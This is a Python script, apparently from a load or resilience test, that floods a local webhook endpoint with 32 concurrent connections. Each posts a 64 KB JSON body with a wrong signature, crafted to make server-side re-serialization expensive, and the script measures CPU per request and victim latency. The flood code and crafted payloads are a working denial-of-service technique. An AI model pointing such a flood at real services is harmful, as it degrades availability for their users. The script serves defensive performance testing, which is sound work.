"""Area 1/2: unauthenticated flood: 32 connections posting 64 KB bodies with a WRONG signature, shaped to
make the compact re-serialization (computed for every body whose raw bytes match no secret) costly:
thousands of numbers needing JS formatting, or deep nesting. Server CPU per request, victim latency."""
import sys, time, threading, os, http.client; sys.path.insert(0, "/work/notes/s57/flood")
from probe import *
def cpu():
    x = open(f"/proc/{S['pid']}/stat").read().split(); return (int(x[13]) + int(x[14])) / os.sysconf("SC_CLK_TCK")
shapes = {
  "numbers": ('{"event":"customer.profile.updated","client_id":"2155","customer_id":"u","gb_customer_id":1,"created_at":"2024-11-19T17:34:42.297Z","data":{"x":[' + ",".join(["1.2345678901234567e-300"] * 2700) + ']}}').encode(),
  "small-ints": ('{"event":"customer.profile.updated","client_id":"2155","customer_id":"u","gb_customer_id":1,"created_at":"2024-11-19T17:34:42.297Z","data":{"x":[' + ",".join(["1"] * 32000) + ']}}').encode(),
  "small-ints-not-json": ('{"event":"customer.profile.updated","client_id":"2155","customer_id":"u","gb_customer_id":1,"created_at":"2024-11-19T17:34:42.297Z","data":{"x":[' + ",".join(["1"] * 32000) + ']}}x').encode(),
  "one-string": ('{"event":"customer.profile.updated","client_id":"2155","customer_id":"u","gb_customer_id":1,"created_at":"2024-11-19T17:34:42.297Z","data":{"x":"' + "a" * 64000 + '"}}').encode(),
  "keys": ('{"event":"customer.profile.updated","client_id":"2155","customer_id":"u","gb_customer_id":1,"created_at":"2024-11-19T17:34:42.297Z","data":{' + ",".join(f'"{i}":0' for i in range(6500)) + '}}').encode(),
}
for name, b in shapes.items():
    if sys.argv[1:] and name not in sys.argv[1:]: continue
    b = b[:65536] if len(b) <= 65536 else None
    if b is None: print(name, "too big"); continue
    stop = threading.Event(); n = [0]; sts = {}
    def flood():
        c = http.client.HTTPConnection("127.0.0.1", S["wp"], timeout=30)
        while not stop.is_set():
            try:
                c.request("POST", "/webhooks/gameball", body=b, headers={"Content-Type": "application/json", "X-GB-Signature": "0" * 40})
                r = c.getresponse(); r.read(); n[0] += 1; sts[r.status] = sts.get(r.status, 0) + 1
            except Exception: c = http.client.HTTPConnection("127.0.0.1", S["wp"], timeout=30)
    pr = Probe(f"uf-{name}"); pr.start()
    c0 = cpu(); t0 = time.time(); ths = [threading.Thread(target=flood) for _ in range(32)]
    for t in ths: t.start()
    time.sleep(10); stop.set()
    for t in ths: t.join()
    el = time.time() - t0; c1 = cpu(); pr.stop.set(); pr.join()
    print(f"{name} ({len(b)} B, wrong signature) x32 conns: {n[0]} requests in {el:.1f}s, statuses {sts}, server CPU {c1-c0:.1f}s ({(c1-c0)/max(n[0],1)*1000:.2f} ms/request); {pr.report()}; rss {rss()}", flush=True)
